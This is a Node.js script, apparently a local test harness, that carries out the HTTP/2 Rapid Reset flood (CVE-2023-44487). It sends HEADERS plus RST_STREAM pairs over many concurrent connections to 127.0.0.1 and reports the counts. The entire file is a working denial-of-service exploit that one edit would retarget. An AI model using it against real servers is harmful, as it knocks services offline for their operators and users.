// HTTP/2 rapid reset (CVE-2023-44487) from its own process, against 127.0.0.1 only:
// `node rapid-reset-flood.mjs PORT CONNECTIONS PAIRS CONCURRENCY MAX_SECONDS`. Each
// connection sends the preface, then PAIRS HEADERS + RST_STREAM(CANCEL) pairs as fast as
// the socket takes them, and the next connection opens when one ends (the server's GOAWAY
// or close), CONCURRENCY at a time, until CONNECTIONS have run or MAX_SECONDS passed.
// Prints one JSON line: connections opened, pairs written, seconds.

import net from "node:net";

const [port, connections, pairs, concurrency, maxSeconds] = process.argv.slice(2).map(Number);
const HOST = "127.0.0.1";
const PATH = "/grpc.health.v1.Health/Check";

function frame(type, flags, streamId, payload) {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

// HPACK without Huffman coding: :method POST and :scheme http from the static table; :path,
// :authority and content-type (static names 4, 1, 31) with literal values; te a literal.
const literal = (prefix, value) => Buffer.concat([Buffer.from([...prefix, value.length]), Buffer.from(value)]);
const block = Buffer.concat([
  Buffer.from([0x83, 0x86]),
  literal([0x04], PATH),
  literal([0x01], `${HOST}:${port}`),
  // Name index 31 does not fit the 4-bit prefix: 15, then 16 more.
  literal([0x0f, 0x10], "application/grpc"),
  literal([0x00, 2, ...Buffer.from("te")], "trailers"),
]);

const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(0x4, 0, 0, Buffer.alloc(0))]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const END_HEADERS = 0x4;

const started = performance.now();
const deadline = started + maxSeconds * 1000;
let opened = 0;
let written = 0;

function oneConnection() {
  return new Promise((resolve) => {
    const socket = net.connect(Number(port), HOST);
    opened++;
    let streamId = 1;
    let sent = 0;
    const done = () => {
      socket.destroy();
      resolve();
    };
    socket.on("error", done);
    socket.on("close", done);
    socket.on("data", () => undefined);
    const pump = () => {
      while (sent < pairs && !socket.destroyed && performance.now() < deadline) {
        const batch = [];
        for (let i = 0; i < 100 && sent < pairs; i++, sent++, streamId += 2) {
          batch.push(frame(0x1, END_HEADERS, streamId, block), frame(0x3, 0, streamId, CANCEL));
        }
        written += batch.length / 2;
        if (!socket.write(Buffer.concat(batch))) return socket.once("drain", pump);
      }
      // The server's answers are left unread beyond the GOAWAY; the connection goes once it
      // has been told to, or after a second.
      setTimeout(done, 1000);
    };
    socket.on("connect", () => {
      socket.write(PREFACE);
      pump();
    });
  });
}

await Promise.all(
  Array.from({ length: concurrency }, async () => {
    while (opened < connections && performance.now() < deadline) await oneConnection();
  }),
);
console.log(JSON.stringify({ connections: opened, pairs: written, seconds: (performance.now() - started) / 1000 }));
